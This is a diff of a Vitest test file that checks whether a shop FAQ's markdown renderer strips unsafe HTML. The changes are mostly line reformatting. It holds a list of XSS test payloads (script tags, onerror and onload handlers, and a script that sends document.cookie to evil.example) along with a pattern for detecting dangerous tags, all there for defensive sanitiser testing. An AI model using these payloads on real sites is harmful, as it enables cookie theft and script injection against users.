@@ -2,17 +2,53 @@ import { describe, expect, it } from 'vitest';
 import { renderAnswer } from '../../../../functions/faq/domain/render';
 
 /** The tags and attributes the render policy allows; anything else in the output is a leak. */
-const ALLOWED_TAGS = new Set(['p', 'br', 'strong', 'em', 'b', 'i', 'ul', 'ol', 'li', 'a', 'code', 'pre', 'blockquote', 'h3', 'h4', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr']);
+const ALLOWED_TAGS = new Set([
+  'p',
+  'br',
+  'strong',
+  'em',
+  'b',
+  'i',
+  'ul',
+  'ol',
+  'li',
+  'a',
+  'code',
+  'pre',
+  'blockquote',
+  'h3',
+  'h4',
+  'table',
+  'thead',
+  'tbody',
+  'tr',
+  'th',
+  'td',
+  'hr',
+]);
 const ALLOWED_ATTRIBUTES: Record<string, string[]> = { a: ['href', 'title', 'rel'], th: ['scope'] };
-const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", colon: ':', tab: '\t', newline: '\n' };
+const ENTITIES: Record<string, string> = {
+  amp: '&',
+  lt: '<',
+  gt: '>',
+  quot: '"',
+  apos: "'",
+  colon: ':',
+  tab: '\t',
+  newline: '\n',
+};
 
-interface Tag { name: string; attributes: Record<string, string> }
+interface Tag {
+  name: string;
+  attributes: Record<string, string>;
+}
 
 /** Decodes the HTML character references a browser would decode in an attribute value. */
-const decodeEntities = (value: string) => value
-  .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
-  .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
-  .replace(/&([a-z]+);/gi, (entity, name: string) => ENTITIES[name.toLowerCase()] ?? entity);
+const decodeEntities = (value: string) =>
+  value
+    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
+    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
+    .replace(/&([a-z]+);/gi, (entity, name: string) => ENTITIES[name.toLowerCase()] ?? entity);
 
 /**
  * Every start tag of the HTML with its attributes. Text never holds a raw `<` (it is escaped), so
@@ -22,7 +58,9 @@ function tagsOf(html: string): Tag[] {
   const tags: Tag[] = [];
   for (const [, name = '', rest = ''] of html.matchAll(/<([a-zA-Z][\w:-]*)((?:"[^"]*"|'[^']*'|[^'">])*)>/g)) {
     const attributes: Record<string, string> = {};
-    for (const [, attr = '', dq, sq, bare] of rest.matchAll(/([^\s"'=<>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g)) {
+    for (const [, attr = '', dq, sq, bare] of rest.matchAll(
+      /([^\s"'=<>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g,
+    )) {
       attributes[attr.toLowerCase()] = decodeEntities(dq ?? sq ?? bare ?? '');
     }
     tags.push({ name: name.toLowerCase(), attributes });
@@ -31,11 +69,14 @@ function tagsOf(html: string): Tag[] {
 }
 
 /** The scheme a browser would see: control characters and whitespace are ignored in it. */
-const schemeOf = (url: string) => /^([a-z][a-z0-9+.-]*):/i.exec(url.replace(/[\u0000-\u0020\u007f-\u009f]/g, ''))?.[1]?.toLowerCase();
+const schemeOf = (url: string) =>
+  /^([a-z][a-z0-9+.-]*):/i.exec(url.replace(/[\u0000-\u0020\u007f-\u009f]/g, ''))?.[1]?.toLowerCase();
 
 /** Asserts the output of one payload is inert: allowed tags and attributes only, safe URLs. */
 function expectInert(html: string) {
-  expect(html).not.toMatch(/<\s*\/?\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|img|video|audio|source|details|body|noscript|input|button)\b/i);
+  expect(html).not.toMatch(
+    /<\s*\/?\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|img|video|audio|source|details|body|noscript|input|button)\b/i,
+  );
   for (const tag of tagsOf(html)) {
     expect(ALLOWED_TAGS.has(tag.name), `tag <${tag.name}>`).toBe(true);
     for (const [name, value] of Object.entries(tag.attributes)) {
@@ -54,7 +95,10 @@ const XSS: [string, string][] = [
   ['a script tag', '<script>alert(1)</script>'],
   ['an upper-case script tag with src', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
   ['a script tag split by a nested one', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
-  ['a script tag inside a paragraph', 'Read this <script>document.location="https://evil.example/?"+document.cookie</script> now'],
+  [
+    'a script tag inside a paragraph',
+    'Read this <script>document.location="https://evil.example/?"+document.cookie</script> now',
+  ],
   ['img onerror', '<img src=x onerror=alert(1)>'],
   ['mixed-case img OnErRoR', '<IMG SRC=x OnErRoR="alert(1)">'],
   ['body onload', '<body onload=alert(1)>'],
@@ -164,9 +208,21 @@ describe('Function: renderAnswer', () => {
   it('should keep normal markdown: headings, lists, emphasis, links and code', () => {
     // Prepare
     const markdown = [
-      '## Returns', '', '- one', '- two', '', '1. first', '2. second', '',
+      '## Returns',
+      '',
+      '- one',
+      '- two',
+      '',
+      '1. first',
+      '2. second',
+      '',
       '**bold**, _emphasis_, `code` and [our policy](https://shop.example/returns?a=1&b=2) or [mail us](mailto:help@shop.example).',
-      '', '```', 'const x = 1;', '```', '', '> A quote',
+      '',
+      '```',
+      'const x = 1;',
+      '```',
+      '',
+      '> A quote',
     ].join('\n');
 
     // Act
@@ -179,7 +235,9 @@ describe('Function: renderAnswer', () => {
     expect(html).toContain('<strong>bold</strong>');
     expect(html).toContain('<em>emphasis</em>');
     expect(html).toContain('<code>code</code>');
-    expect(html).toContain('<a href="https://shop.example/returns?a=1&amp;b=2" rel="noopener noreferrer">our policy</a>');
+    expect(html).toContain(
+      '<a href="https://shop.example/returns?a=1&amp;b=2" rel="noopener noreferrer">our policy</a>',
+    );
     expect(html).toContain('<a href="mailto:help@shop.example" rel="noopener noreferrer">mail us</a>');
     expect(html).toMatch(/<pre><code>const x = 1;\s*<\/code><\/pre>/);
     expect(html).toMatch(/<blockquote>\s*<p>A quote<\/p>\s*<\/blockquote>/);
